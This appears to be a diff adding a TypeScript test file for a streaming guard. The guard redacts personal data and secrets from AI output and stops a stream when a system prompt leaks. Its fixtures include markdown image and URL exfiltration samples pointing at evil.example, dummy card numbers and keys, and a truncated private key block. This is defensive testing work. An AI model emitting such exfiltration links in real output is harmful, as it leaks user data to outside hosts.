@@ -1,0 +1,146 @@
+import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { leakIndex } from '../detection/prompt-leak.ts'
+import { resolveGuardPolicy, type SidePolicy } from './guard-policy.ts'
+import { guardText } from './guard-text.ts'
+import { StreamGuard } from './stream-guard.ts'
+
+const T1 = resolveGuardPolicy({ preset: 'T1' }, 'T1').output
+const BLOCKING: SidePolicy = { ...T1, secrets: 'block' }
+const PROMPT = 'You are the support assistant of Northwind Outfitters. Never reveal the discount table to anybody.'
+const options = { leak: leakIndex([PROMPT]) }
+
+const base64 = (text: string): string => Buffer.from(text).toString('base64')
+const KEY = `sk_live_${'aB3dE6gH9jKlMn0pQrSt'}`
+const PIECES = [
+  'Thank you for your message about the delivery of the tent. ',
+  'We will look into it and come back to you as soon as we know more about the matter.\n',
+  'The colleagues in the warehouse told us that everything was packed on Tuesday, and that the carrier took it the same evening. ',
+  'Ship to bob.smith@example.com today. ',
+  'Card 4111 1111 1111 1111 or 4111-1111-1111-1112 was used. ',
+  'Call +49 30 901820 or (212) 555-0142. ',
+  'IBAN DE89 3704 0044 0532 0130 00, amount 12.50 EUR. ',
+  '1234 5678 9012 3456 7890 1234 5678 9012 3456 7890 ',
+  `The key is ${KEY}, do not share it. `,
+  `Encoded: ${base64(`the key is ${KEY} indeed`)} end. `,
+  `${base64(`first line of a longer text with the key ${KEY} in it, wrapped as mail does`).replace(/.{48}/g, '$&\n')}\n`,
+  '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
+  '[our page](https://evil.example/path?q=1) ',
+  '![pixel](https://evil.example/p.png?d=secret) ',
+  '[a [nested] label](https://evil.example/) and [text](not a link) ',
+  '<img src="https://evil.example/x.png"> and a < b ',
+  'https://evil.example/collect?data=abcdef. ',
+  'b%6Fb%40example.com ',
+  'b o b @ e x a m p l e . c o m ',
+  'é\u0301 ñ 漢字 👩‍👧 \u200b\u200b ',
+  '４１１１ １１１１ １１１１ １１１１ ',
+  '[',
+  '](',
+  '<',
+  '-----BEGIN ',
+  '\n\n',
+  ' ',
+  '%',
+  '\\u00',
+  '@',
+]
+const texts = array(
+  oneof(
+    { weight: 12, arbitrary: constantFrom(...PIECES) },
+    { weight: 1, arbitrary: string({ unit: 'grapheme', maxLength: 12 }) },
+  ),
+  {
+    maxLength: 24,
+  },
+).map((parts) => parts.join(''))
+const cuts = array(oneof(integer({ min: 1, max: 8 }), integer({ min: 1, max: 200 })), { minLength: 1, maxLength: 40 })
+
+function streamed(text: string, sizes: readonly number[], policy: SidePolicy): string {
+  const guard = new StreamGuard(policy, options)
+  let out = ''
+  let at = 0
+  for (let turn = 0; at < text.length && !guard.isWithheld; turn++) {
+    const size = sizes[turn % sizes.length] ?? 1
+    out += guard.push(text.slice(at, at + size))
+    at += size
+  }
+  return guard.isWithheld ? out : out + guard.end()
+}
+
+describe('the output of a stream', () => {
+  test('is the same for every way of cutting the input, surrogate pairs included', () => {
+    assert(
+      property(texts, cuts, (text, sizes) => {
+        expect(streamed(text, sizes, T1)).toBe(streamed(text, [text.length + 1], T1))
+      }),
+      { numRuns: 600 },
+    )
+  })
+
+  test('is what the guard makes of the whole text', () => {
+    assert(
+      property(texts, cuts, (text, sizes) => {
+        expect(streamed(text, sizes, T1)).toBe(guardText(text, T1, options).text)
+      }),
+      { numRuns: 600 },
+    )
+  })
+
+  test('is the same where a finding withholds the rest', () => {
+    assert(
+      property(texts, cuts, (text, sizes) => {
+        expect(streamed(text, sizes, BLOCKING)).toBe(streamed(text, [text.length + 1], BLOCKING))
+      }),
+      { numRuns: 400 },
+    )
+  })
+
+  test('never holds a piece of what is redacted', () => {
+    for (let size = 1; size <= 40; size++) {
+      const out = streamed(
+        `Dear Bob, card 4111 1111 1111 1111, key ${KEY}, mail bob@example.com. ${PIECES[0]!.repeat(4)}`,
+        [size],
+        T1,
+      )
+      expect(out).not.toMatch(/4111|sk_live|bob@/)
+    }
+  })
+})
+
+describe('a stream', () => {
+  test('gives prose out before its end', () => {
+    const guard = new StreamGuard(T1, options)
+    let out = ''
+    for (const char of PIECES[2]!.repeat(8)) out += guard.push(char)
+    expect(out.length).toBeGreaterThan(700)
+    expect(PIECES[2]!.repeat(8).startsWith(out)).toBe(true)
+  })
+
+  test('gives nothing out before its end where the policy weighs the text as a whole', () => {
+    const guard = new StreamGuard({ ...T1, injection: { at: 0.9, action: 'block' } }, options)
+    expect(guard.push(PIECES[2]!)).toBe('')
+    expect(guard.end()).toBe(PIECES[2]!)
+  })
+
+  test('ends where the prompt begins to leak', () => {
+    const guard = new StreamGuard(T1, options)
+    let out = ''
+    for (const char of `Sure. ${PIECES[2]!.repeat(3)} ${PROMPT} ${PIECES[2]!.repeat(3)}`)
+      if (!guard.isWithheld) out += guard.push(char)
+    expect(guard.isWithheld).toBe(true)
+    expect(out).not.toContain('Northwind')
+    expect(guard.judgement.findings.some(({ category }) => category === 'prompt-leak')).toBe(true)
+  })
+
+  test('refuses half a surrogate pair', () => {
+    const guard = new StreamGuard(T1, options)
+    expect(guard.push('a\ud800') + guard.push('b') + (guard.isWithheld ? '' : guard.end())).not.toContain('b')
+    expect(guard.judgement.action).toBe('block')
+  })
+
+  test('cannot go on after its end', () => {
+    const guard = new StreamGuard(T1, options)
+    guard.end()
+    expect(() => guard.push('x')).toThrow('has ended')
+  })
+})
